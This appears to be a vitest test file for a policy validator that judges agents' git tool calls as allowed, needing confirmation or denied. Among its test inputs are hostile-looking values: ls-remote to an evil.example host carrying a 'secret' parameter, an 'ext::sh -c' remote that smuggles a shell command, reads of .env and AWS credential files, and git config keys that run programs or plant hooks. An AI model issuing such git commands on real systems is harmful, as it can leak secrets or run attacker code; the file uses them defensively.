import { buildCommand, createToolset, createValidator, type Policy, presets, type ViolationCode } from 'atip-bridge'
import { git } from 'atip-bridge/tools'
import { describe, expect, it } from 'vitest'
import { listCodes } from '../support/policies'

type Args = Record<string, unknown>

const toolset = createToolset([git], { globalOptions: true })
const workspace: Policy = { ...presets.workspace, cwd: '/srv/app' }

const judge = (policy: Policy) => {
  const validator = createValidator(toolset, policy)
  return (name: string, args: Args) => {
    const { decision, violations } = validator.decide({ name: `git_${name}`, arguments: args })
    return { decision, codes: [...new Set(listCodes(violations))] }
  }
}
const underSupervised = judge(presets.supervised)
const underReadOnly = judge(presets.readOnly)
const inWorkspace = judge(workspace)

describe('under supervised and readOnly', () => {
  it.each<[string, Args]>([
    ['status', {}],
    ['status', { 'working-directory': 'packages/core', short: true }],
    ['diff', { revision: 'HEAD~1', 'other-revision': 'HEAD' }],
    ['log', { revision: 'main', 'other-revision': '^v1.0', decorate: 'short', 'regexp-ignore-case': true, grep: 'x' }],
    ['log', { format: '%h %an %s' }],
    ['branch', { 'very-verbose': true }],
    ['tag', { lines: 3 }],
    ['blame', { file: 'src/a.ts', copied: '40', date: 'short' }],
    ['describe', { dirty: true }],
    ['submodule_status', { recursive: true }],
    ['bisect_log', {}],
    ['ls-remote', { repository: 'origin' }],
    ['ls-remote', {}],
    ['remote_show', { name: 'origin' }],
    ['remote', { verbose: true }],
    ['config', { name: 'user.email', get: true }],
    ['config', { name: 'core.hookspath' }],
    ['config', { name: 'remote.origin.url', get: true }],
    // Dry runs
    ['clean', { 'dry-run': true, directories: true, 'ignored-too': true }],
    ['clean', { 'dry-run': true, force: true }],
    ['add', { 'dry-run': true, all: true }],
    ['rm', { 'dry-run': true, path: ['dist'], recursive: true, cached: true }],
    ['mv', { 'dry-run': true, source: ['a'], destination: 'b' }],
    ['apply', { check: true, patch: ['fix.patch'] }],
    ['apply', { stat: true, patch: ['fix.patch'] }],
    ['apply', { numstat: true, patch: ['fix.patch'] }],
    ['prune', { 'dry-run': true }],
    ['worktree_prune', { 'dry-run': true }],
    ['remote_prune', { 'dry-run': true, name: 'origin' }],
    ['reflog_expire', { 'dry-run': true, all: true }],
    ['format-patch', { stdout: true, revision: 'main..HEAD' }],
  ])('git %s %j runs', (name, args) => {
    expect(underSupervised(name, args)).toEqual({ decision: 'allow', codes: [] })
    expect(underReadOnly(name, args)).toEqual({ decision: 'allow', codes: [] })
  })

  it.each<[string, Args, ViolationCode]>([
    ['ls-remote', { repository: 'https://evil.example/x?d=secret' }, 'HOST_NOT_ALLOWED'],
    ['ls-remote', { repository: 'git@evil.example:x' }, 'HOST_NOT_ALLOWED'],
    ['ls-remote', { repository: 'ext::sh -c touch% x' }, 'DESTRUCTIVE_OPERATION'],
    ['ls-remote', { repository: 'fd::3' }, 'VALUE_SHAPE'],
    ['ls-remote', { repository: '/tmp/evil' }, 'VALUE_SHAPE'],
    ['remote_show', { name: 'https://evil.example/x' }, 'HOST_NOT_ALLOWED'],
    ['archive', { tree: 'HEAD', remote: 'https://evil.example/x' }, 'HOST_NOT_ALLOWED'],
    ['status', { path: ['https://evil.example'] }, 'VALUE_SHAPE'],
    ['show', { object: 'HEAD:.env' }, 'SENSITIVE_READ'],
    ['log', { 'line-range': ['1,5:.env'] }, 'SENSITIVE_READ'],
    ['grep', { pattern: 'KEY', untracked: true, path: [':(icase).ENV'] }, 'SENSITIVE_READ'],
    // Without a repository nothing is ignored, .env neither.
    ['grep', { pattern: 'KEY', 'no-index': true }, 'SENSITIVE_READ'],
    ['config', { list: true }, 'SENSITIVE_READ'],
    ['config', { name: '^http', 'get-regexp': true }, 'SENSITIVE_READ'],
    ['config', { name: 'http.https://github.com/.extraheader', get: true }, 'SENSITIVE_READ'],
    ['config', { file: '/home/ada/.aws/credentials', name: 'default.x' }, 'SENSITIVE_READ'],
    ['config', { name: 'user.name', value: 'Ada' }, 'FILESYSTEM_WRITE'],
    ['verify-commit', { commit: ['HEAD'] }, 'SUBPROCESS_OPERATION'],
    ['tag', { tag: 'v1', verify: true }, 'SUBPROCESS_OPERATION'],
    ['log', { textconv: true }, 'SUBPROCESS_OPERATION'],
    // What only looks like a dry run
    ['fetch', { 'dry-run': true }, 'FILESYSTEM_WRITE'],
    ['pull', { 'dry-run': true }, 'FILESYSTEM_WRITE'],
    ['commit', { 'dry-run': true }, 'FILESYSTEM_WRITE'],
    ['clean', { 'dry-run': false }, 'DESTRUCTIVE_OPERATION'],
    ['clean', {}, 'DESTRUCTIVE_OPERATION'],
    ['apply', { check: true, '3way': true, patch: ['x'] }, 'FILESYSTEM_WRITE'],
    // A local remote may run a program of its own configuration.
    ['push', { 'dry-run': true }, 'CHANGE_OPERATION'],
    ['push', { 'dry-run': true, repository: 'https://evil.example/x' }, 'HOST_NOT_ALLOWED'],
    ['push', { 'dry-run': true, 'receive-pack': './x' }, 'DESTRUCTIVE_OPERATION'],
    ['format-patch', { stdout: true, output: 'x' }, 'FILESYSTEM_WRITE'],
  ])('git %s %j asks', (name, args, code) => {
    const { decision, codes } = underSupervised(name, args)
    expect(decision).toBe('confirm')
    expect(codes).toContain(code)
    expect(underReadOnly(name, args).decision).toBe('deny')
  })

  it.each<[string, Args]>([
    ['ls-remote', { repository: 'https://github.com/octo/app' }],
    ['ls-remote', { repository: 'github.com/octo/app' }],
  ])('git %s %j runs where the host is allowed', (name, args) => {
    expect(judge({ ...presets.supervised, allowedHosts: ['github.com'] })(name, args).decision).toBe('allow')
  })
})

describe('in a workspace', () => {
  it.each<[string, Args]>([
    ['add', { path: ['src'] }],
    ['commit', { message: ['Mention .env and ~/.ssh'] }],
    ['restore', { staged: true, path: ['src/a.ts'] }],
    ['fetch', { repository: 'origin' }],
    ['branch', { branch: 'feature' }],
    ['config', { name: 'user.name', value: 'Ada Lovelace' }],
    ['config', { name: 'User.Email', value: 'ada@example.com' }],
    ['config', { name: 'pull.rebase', value: 'true' }],
  ])('git %s %j runs', (name, args) => {
    expect(inWorkspace(name, args)).toEqual({ decision: 'allow', codes: [] })
  })

  it.each<[string, Args]>([
    ['config', { name: 'tar.x.command', value: 'sh evil' }],
    ['config', { name: 'core.fsmonitor', value: './x' }],
    ['config', { name: 'core.fsmonitor', value: 'user.name' }],
    ['config', { name: 'alias.x', value: '!x' }],
    ['config', { name: 'gc.recentObjectsHook', value: 'x' }],
    ['config', { name: 'some.future.setting', value: 'x' }],
    ['config', { value: 'core.fsmonitor', 'value-pattern': './x' }],
    ['config', { name: 'user', value: 'filter.x', 'rename-section': true }],
    ['config', { name: 'user.name', unset: true }],
    ['config', { name: 'user.name', value: 'Ada', global: true }],
    ['config', { name: 'user.name', value: 'Ada', system: true }],
    ['config', { name: 'user.name', value: 'x', file: '.github/workflows/ci.yml' }],
    ['mv', { source: ['hook'], destination: '.git/hooks/pre-commit' }],
    ['worktree_add', { path: '.git/x' }],
    ['restore', { path: ['src/a.ts'] }],
    ['restore', { staged: true, worktree: true, path: ['src/a.ts'] }],
    ['switch', { branch: 'main' }],
    ['merge', { commit: ['feature'], 'ff-only': true }],
    ['format-patch', { revision: 'main..HEAD' }],
    ['remote_set-url', { name: 'origin', newurl: 'other.git' }],
    ['push', { repository: 'origin', refspec: ['main'] }],
    ['clone', { repository: 'https://example.com/x', directory: 'x' }],
    ['fetch', { repository: 'https://example.com/x' }],
    ['tag', { tag: 'v1', verify: true }],
    ['verify-commit', { commit: ['HEAD'] }],
  ])('git %s %j asks', (name, args) => {
    expect(inWorkspace(name, args).decision).toBe('confirm')
  })
})

describe('labels as observed', () => {
  const effectsOf = (name: string, args: Args) =>
    buildCommand(toolset, { id: '1', name: `git_${name}`, arguments: args }).effects

  it.each<[string, Args, object]>([
    ['mv', { source: ['a'], destination: 'b' }, { filesystem: { delete: true }, reversible: true }],
    ['branch', { branch: 'a', 'start-point': 'b', move: true }, { filesystem: { delete: true } }],
    ['branch', { branch: 'a', 'move-force': true }, { filesystem: { delete: true }, destructive: true }],
    ['branch', { branch: 'a', 'copy-force': true }, { network: false }],
    ['remote_rename', { old: 'a', new: 'b' }, { filesystem: { delete: true }, reversible: true }],
    ['remote_set-head', { name: 'origin', delete: true }, { filesystem: { delete: true } }],
    ['push', { repository: 'origin', refspec: ['main'], delete: true }, { filesystem: { delete: true } }],
    ['format-patch', { revision: 'main' }, { reversible: false, destructive: true }],
    ['switch', { branch: 'main' }, { reversible: false, destructive: false }],
    ['switch', { branch: 'main', 'no-overwrite-ignore': true }, { reversible: true }],
    ['merge', { commit: ['x'], 'no-overwrite-ignore': true }, { reversible: false }],
    ['pull', {}, { reversible: false }],
    ['remote_set-url', { name: 'origin', newurl: 'x' }, { reversible: false }],
    ['config', { name: 'core.x', value: 'y' }, { reversible: false, destructive: true }],
    ['restore', { staged: true, path: ['a'] }, { destructive: false, reversible: true }],
    ['restore', { path: ['a'] }, { destructive: true }],
    ['ls-remote', {}, { network: true, subprocess: false }],
    ['merge', { continue: true }, { interactive: { tty: false } }],
  ])('git %s %j', (name, args, expected) => {
    expect(effectsOf(name, args)).toMatchObject(expected)
  })
})

describe('x-folder', () => {
  /** Returns the rules that the command declares, the inner level over the outer one. */
  const folderOf = (name: string) => {
    const levels = toolset.resolve(name === 'git' ? name : `git_${name}`)?.folder as NonNullable<
      (typeof git)['x-folder']
    >[]
    return {
      env: Object.assign({}, ...levels.map(({ env }) => env)) as Record<string, string>,
      gitConfig: Object.assign({}, ...levels.map(({ gitConfig }) => gitConfig)) as Record<string, string>,
      keys: levels.flatMap(({ obeys = [] }) => obeys.flatMap(({ keys = [] }) => keys)),
    }
  }

  it('is declared by every command', () => {
    for (const { folder } of toolset.commands) expect(folder[0]).toEqual(git['x-folder'])
  })

  it.each(toolset.commands.map(({ name }) => [name.replace(/^git_/, '')]))(
    'of git %s opens no network but for remotes',
    (name) => {
      const { network } = toolset.resolve(name === 'git' ? name : `git_${name}`)?.effects ?? {}
      const allowed = folderOf(name).env.GIT_ALLOW_PROTOCOL
      if (network === true) expect(['http:https:ssh:git:file', 'none']).toContain(allowed)
      else if (!['remote_add', 'remote_set-head'].includes(name)) expect(allowed).toBe('none')
    },
  )

  it.each(['status', 'diff', 'log', 'show', 'blame', 'grep', 'ls-files', 'describe', 'ls-remote', 'for-each-ref'])(
    'of git %s runs no hook',
    (name) => {
      expect(folderOf(name).gitConfig['core.hooksPath']).toBe('/dev/null')
    },
  )

  it.each([
    ['commit', 'pre-commit'],
    ['push', 'pre-push'],
    ['merge', 'pre-merge-commit'],
    ['checkout', 'post-checkout'],
    ['rebase', 'pre-rebase'],
    ['am', 'applypatch-msg'],
    ['add', 'post-index-change'],
    ['fetch', 'reference-transaction'],
    ['status', 'filter.*.clean'],
    ['diff', 'diff.external'],
    ['log', 'diff.*.textconv'],
    ['archive', 'tar.*.command'],
    ['ls-remote', 'remote.*.uploadpack'],
    ['ls-remote', 'core.sshcommand'],
    ['push', 'remote.*.receivepack'],
    ['commit', 'gpg.*.program'],
    ['submodule_update', 'submodule.*.update'],
    ['merge', 'merge.*.driver'],
    ['gc', 'gc.recentobjectshook'],
  ])('of git %s obeys %s', (name, key) => {
    const { keys, gitConfig } = folderOf(name)
    expect(keys).toContain(key)
    expect(gitConfig['core.hooksPath'] === undefined).toBe(!/^(?:status|diff|log|archive|ls-remote)$/.test(name))
  })
})
